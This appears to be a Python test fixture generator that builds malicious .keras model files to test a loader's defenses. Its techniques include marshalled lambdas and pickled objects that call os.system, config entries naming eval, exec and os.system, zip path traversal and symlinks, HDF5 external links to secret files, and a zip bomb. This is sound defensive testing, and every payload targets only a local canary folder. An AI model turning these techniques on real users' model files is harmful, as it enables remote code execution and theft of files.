"""Hostile .keras files: one function makes all, each from a good file with one thing changed."""

from __future__ import annotations

import base64
import copy
import io
import json
import marshal
import pickle
import stat
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py

Config = dict[str, Any]
_HUGE = 10**9
_BOMB = 400 * 2**20  # bytes of zeros
_DEEP = 100_000  # lists within lists
_SYMLINK = (stat.S_IFLNK | 0o777) << 16


@dataclass(frozen=True)
class Good:
    """A good file, taken apart: one Dense layer behind a Flatten. `canary` is a folder that nobody may touch."""

    config: Config
    weights: bytes
    canary: Path

    def layers(self) -> tuple[Config, list[Config]]:
        """Give a copy of the config, and its layers to be changed."""
        config = copy.deepcopy(self.config)
        return config, config["config"]["layers"]

    def code(self) -> Config:
        """Give marshalled code that leaves a file among the canaries, as Keras writes a lambda."""
        source = f"__import__('os').system('touch {self.canary}/executed') or x"
        body = compile(f"lambda x: {source}", "evil", "eval").co_consts[0]
        text = base64.b64encode(marshal.dumps(body)).decode()
        return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}


class Evil:
    """An object whose pickle runs a command where it is read."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        """Say how it is made anew."""
        import os

        return os.system, (self._command,)


def take_apart(path: Path, canary: Path) -> Good:
    """Read a good .keras file."""
    with zipfile.ZipFile(path) as archive:
        return Good(json.loads(archive.read("config.json")), archive.read("model.weights.h5"), canary)


def an_object(kind: str, module: str | None, config: Any, registered: str | None = None) -> Config:
    """Give what Keras writes for an object."""
    return {"class_name": kind, "module": module, "config": config, "registered_name": registered}


def write(folder: Path, good: Good) -> Iterator[Path]:
    """Write all of them into a folder."""
    for name, config in {**dict(_code(good)), **dict(_gadgets(good)), **dict(_sizes(good))}.items():
        yield _archive(folder / f"{name}.keras", json.dumps(config).encode(), good.weights)
    for name, weights in _weights(good):
        yield _archive(folder / f"{name}.keras", json.dumps(good.config).encode(), weights)
    yield from _zips(folder, good)


def _with_layer(good: Good, layer: Config) -> Config:
    config, layers = good.layers()
    layers.insert(1, layer)
    return config


def _code(good: Good) -> Iterator[tuple[str, Config]]:
    """Code within the config, or beside it."""
    evil = an_object("Lambda", "keras.layers", {"name": "evil", "function": good.code()})
    yield "lambda", _with_layer(good, evil)
    inner = an_object("Sequential", "keras", {"name": "inner", "layers": [evil]})
    yield "lambda-in-a-model", _with_layer(good, inner)
    deeper = an_object("Sequential", "keras", {"name": "outer", "layers": [inner]})
    yield "lambda-in-two-models", _with_layer(good, deeper)
    yield "lambda-in-a-wrapper", _with_layer(good, _wrapped(evil))
    yield "lambda-by-its-own-module", _with_layer(good, {**evil, "module": "keras.src.layers.core.lambda_layer"})
    yield "lambda-as-an-activation", _with_layer(good, _activation(good.code()))
    saved = {"name": "evil", "filepath": str(good.canary / "saved_model"), "call_endpoint": "serve"}
    yield "saved-model-of-somebody", _with_layer(good, an_object("TFSMLayer", "keras.layers", saved))
    state = base64.b64encode(pickle.dumps(Evil(f"touch {good.canary}/executed"))).decode()
    yield "pickled-torch-module", _with_layer(good, an_object("TorchModuleWrapper", "keras.layers", {"module": state}))


def _wrapped(layer: Config) -> Config:
    return an_object("TimeDistributed", "keras.layers", {"name": "wrapper", "layer": layer})


def _activation(function: Config) -> Config:
    return an_object("Activation", "keras.layers", {"name": "evil", "activation": function})


def _gadgets(good: Good) -> Iterator[tuple[str, Config]]:
    """Names of what is no layer, in all the places that Keras looks names up in."""
    command = f"touch {good.canary}/executed"
    address = {"fname": str(good.canary / "fetched"), "origin": "http://127.0.0.1:9/evil"}
    yield "get-file", _with_layer(good, an_object("get_file", "keras.utils", address))
    yield "os-system", _with_layer(good, an_object("system", "os", {"command": command}))
    for module, name in (("os", "system"), ("builtins", "eval"), ("builtins", "exec"), ("keras.utils", "get_file")):
        function = an_object("function", module, name, name)
        yield f"function-{module}-{name}", _with_layer(good, _activation(function))
    yield "module-of-somebody", _with_layer(good, an_object("Evil", "canary_module", {"name": "evil"}))
    yield "registered-name", _with_layer(good, an_object("Dense", "keras.layers", {"units": 1}, "canary_module>Evil"))
    config, layers = good.layers()
    layers[-1]["module"], layers[-1]["class_name"] = "keras.src.saving.serialization_lib", "deserialize_keras_object"
    yield "deserialize-once-more", config
    table = {"name": "evil", "vocabulary": str(good.canary / "secret.txt")}
    yield "vocabulary-of-a-file", _with_layer(good, an_object("StringLookup", "keras.layers", table))
    loss = an_object("function", "os", "system", "system")
    yield "loss-of-os", {**good.config, "compile_config": {"loss": loss, "optimizer": "sgd"}}
    yield "wrapper-of-a-name", _with_layer(good, _wrapped(an_object("system", "os", {"command": command})))


def _sizes(good: Good) -> Iterator[tuple[str, Config]]:
    """Networks that nobody's memory holds."""
    config, layers = good.layers()
    layers[-1]["config"]["units"] = _HUGE
    yield "a-huge-layer", config
    table = {"name": "evil", "input_dim": _HUGE, "output_dim": 100}
    yield "a-huge-table", _with_layer(good, an_object("Embedding", "keras.layers", table))
    config, layers = good.layers()
    layers[0]["config"]["batch_shape"] = [_HUGE, *layers[0]["config"]["batch_shape"][1:]]
    yield "a-huge-batch", config
    config, layers = good.layers()
    place = {"data_format": "channels_last"}
    grown = {"name": "evil", "size": [20_000, 20_000], "interpolation": "nearest", **place}
    shrunk = {"name": "small", "pool_size": [20_000, 20_000], "strides": [20_000, 20_000], "padding": "valid", **place}
    layers[1:1] = [
        an_object("UpSampling2D", "keras.layers", grown),
        an_object("AveragePooling2D", "keras.layers", shrunk),
    ]
    yield "a-huge-picture", config


def _weights(good: Good) -> Iterator[tuple[str, bytes]]:
    """Weights that are in other files, or not as they say."""
    outside = str(good.canary / "secret.h5")

    def linked(file: Any, path: str) -> None:
        file[path] = h5py.ExternalLink(outside, "secret")

    def external(file: Any, path: str) -> None:
        shape = (192, 2) if path.endswith("0") else (2,)
        file.create_dataset(path, shape, "f4", external=[(str(good.canary / "secret.txt"), 0, h5py.h5f.UNLIMITED)])

    def soft(file: Any, path: str) -> None:
        file[path] = h5py.SoftLink(f"/{path}")

    def virtual(file: Any, path: str) -> None:
        layout = h5py.VirtualLayout((192, 2), "f4")
        layout[:] = h5py.VirtualSource(outside, "secret", (192, 2))
        file.create_virtual_dataset(path, layout)

    def empty(file: Any, path: str) -> None:
        file.create_dataset(path, (_HUGE, 1000), "f4", chunks=(1000, 1000))

    ways = {"external-link": linked, "external-storage": external, "soft-link": soft, "virtual": virtual, "lie": empty}
    for name, put in ways.items():
        buffer = io.BytesIO(good.weights)
        with h5py.File(buffer, "r+") as file:
            path = _kernel(file)
            del file[path]
            put(file, path)
        yield f"weights-{name}", buffer.getvalue()


def _kernel(file: Any) -> str:
    found: list[str] = []
    file.visit(lambda name: found.append(name) if name.endswith("vars/0") else None)
    return found[0]


def _archive(path: Path, config: bytes, weights: bytes, **members: bytes) -> Path:
    metadata = members.pop("metadata", b'{"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}')
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in {"metadata.json": metadata, "config.json": config, "model.weights.h5": weights}.items():
            archive.writestr(name, content)
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def _zips(folder: Path, good: Good) -> Iterator[Path]:
    """Archives that are none, or more than one."""
    config, written = json.dumps(good.config).encode(), str(good.canary / "written")
    for name, member in {"parent": f"../{good.canary.name}/written", "absolute": written}.items():
        yield _archive(folder / f"zip-{name}.keras", config, good.weights, **{member: b"evil"})
    pickled = pickle.dumps(Evil(f"touch {good.canary}/executed"))
    yield _archive(folder / "zip-pickle.keras", config, good.weights, **{"model.weights.npz": pickled})
    yield _archive(folder / "zip-asset-above.keras", config, good.weights, **{"assets/../../written": b"evil"})
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = _SYMLINK
    for name, info in {"symlink": link, "weights-symlink": zipfile.ZipInfo("model.weights.h5")}.items():
        info.external_attr, path = _SYMLINK, folder / f"zip-{name}.keras"
        weights = b"" if name == "symlink" else None
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("metadata.json", '{"keras_version": "3.15.1"}')
            archive.writestr("config.json", config)
            if weights is not None:
                archive.writestr("model.weights.h5", weights)
            archive.writestr(info, str(good.canary / "secret.h5"))
        yield path
    bomb = folder / "zip-bomb.keras"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", config)
        archive.writestr("model.weights.h5", bytes(_BOMB))
    yield bomb
    deep = b"[" * _DEEP + b"]" * _DEEP
    yield _archive(folder / "json-deep.keras", deep, good.weights)
    yield _archive(folder / "json-twice.keras", config[:-1] + b', "class_name": "Sequential"}', good.weights)
    for number, lie in enumerate((b'{"keras_version": "2.9.0"}', b'{"keras_version": ["2."]}', b"[]", deep)):
        broken = {**good.config, "config": [good.config["config"]]} if number < 2 else good.config
        yield _archive(folder / f"metadata-{number}.keras", json.dumps(broken).encode(), good.weights, metadata=lie)
